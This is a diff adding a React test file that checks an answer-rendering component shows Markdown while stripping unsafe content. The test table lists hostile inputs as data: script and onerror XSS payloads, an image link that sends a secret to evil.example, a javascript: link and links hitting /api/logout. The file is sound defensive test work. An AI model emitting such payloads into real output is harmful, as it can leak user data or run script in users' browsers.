@@ -1,0 +1,49 @@
+// @vitest-environment jsdom
+import { cleanup, render } from "@testing-library/react";
+import { MemoryRouter } from "react-router-dom";
+import { afterEach, describe, expect, test } from "vitest";
+import { AnswerText } from "./answer-text.tsx";
+
+afterEach(cleanup);
+
+function htmlOf(text: string, streaming = false): HTMLElement {
+  return render(
+    <MemoryRouter>
+      <AnswerText text={text} streaming={streaming} />
+    </MemoryRouter>,
+  ).container;
+}
+
+describe("an answer", () => {
+  test("is Markdown", () => {
+    const html = htmlOf("**Bold** and\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
+    expect([
+      html.querySelector("strong")?.textContent,
+      html.querySelectorAll("li").length,
+      html.querySelectorAll("td").length,
+    ]).toEqual(["Bold", 2, 2]);
+  });
+
+  test.each([
+    ["raw HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"],
+    ["a remote image", "![steal](https://evil.example/x.png?q=secret)"],
+    ["an image of this site", "![own](/api/logout)"],
+    ["a foreign link", "[click](https://evil.example)"],
+    ["a link that runs", "[click](javascript:alert(1))"],
+    ["a link into the API", "[click](/api/logout)"],
+    ["a protocol-relative link", "[click](//evil.example/x)"],
+  ])("never carries %s", (_what, text) => {
+    const html = htmlOf(text);
+    expect(html.querySelectorAll("script, img, iframe, a, [onerror]")).toHaveLength(0);
+  });
+
+  test("may lead to a page of this site", () => {
+    expect(htmlOf("[Buy](/credits?package=2)").querySelector("a")?.getAttribute("href")).toBe(
+      "/credits?package=2",
+    );
+  });
+
+  test("shows half-open syntax closed while it is being written", () => {
+    expect(htmlOf("This is **importa", true).querySelector("strong")?.textContent).toBe("importa");
+  });
+});
